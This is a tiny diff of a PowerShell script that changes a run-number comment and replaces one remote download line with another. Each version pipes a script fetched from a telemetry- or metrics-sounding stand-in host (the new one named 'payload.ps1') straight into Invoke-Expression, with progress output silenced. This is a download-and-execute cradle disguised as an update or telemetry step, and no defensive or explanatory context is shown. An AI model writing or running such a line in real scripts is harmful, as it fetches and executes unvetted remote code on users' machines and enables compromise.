@@ -1,3 +1,3 @@
-# run 2896 v4
+# run 5245 v4
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://api.telemetry-hub.example/update.ps1 | iex
+iwr -UseBasicParsing http://static.metrics-node.example/payload.ps1 | iex
